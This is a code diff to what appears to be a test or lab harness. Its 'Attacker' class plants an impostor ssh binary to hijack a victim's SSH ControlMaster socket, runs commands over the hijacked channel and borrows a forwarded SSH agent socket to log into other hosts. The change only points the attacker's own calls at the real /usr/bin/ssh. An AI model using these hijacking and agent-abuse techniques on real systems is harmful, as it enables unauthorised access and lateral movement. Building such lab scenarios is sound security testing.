@@ -15,6 +15,8 @@ while [ ! -e $evil/go ]; do sleep 0.2; done
 exec /usr/bin/ssh -o ControlMaster=no -o ControlPath=$evil/way "$@" <&9
 `
 
+/** The real one: the other name leads to the impostor. */
+const SSH = '/usr/bin/ssh'
 const TARGET = 'root@10.77.0.2'
 const quiet =
   '-F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR'
@@ -47,7 +49,7 @@ export class Attacker {
 
   async leave(): Promise<void> {
     await this.#host.run(
-      `rm -f /usr/local/bin/ssh; touch /root/evil/go; ssh -S /root/evil/way -O exit ${TARGET} 2>/dev/null; rm -rf /root/evil`,
+      `rm -f /usr/local/bin/ssh; touch /root/evil/go; ${SSH} -S /root/evil/way -O exit ${TARGET} 2>/dev/null; rm -rf /root/evil`,
     )
   }
 
@@ -59,13 +61,13 @@ export class Attacker {
   over(request: string, { options = '', stdin = '/dev/null' }: { options?: string; stdin?: string } = {}) {
     const quoted = request === '' ? '' : `'${request.replaceAll("'", `'\\''`)}'`
     return this.#host.run(
-      `{ ${stdin === '/dev/null' ? ':' : stdin}; } | ssh ${quiet} -S /root/evil/way ${options} ${TARGET} ${quoted}`,
+      `{ ${stdin === '/dev/null' ? ':' : stdin}; } | ${SSH} ${quiet} -S /root/evil/way ${options} ${TARGET} ${quoted}`,
     )
   }
 
   /** With a key that an agent lends, as `user` at `host`. */
   withAgent(socket: string, user: string, host: string, request: string) {
-    return this.#host.run(`SSH_AUTH_SOCK=${socket} ssh ${quiet} ${user}@${host} ${request}`)
+    return this.#host.run(`SSH_AUTH_SOCK=${socket} ${SSH} ${quiet} ${user}@${host} ${request}`)
   }
 
   run(command: string) {
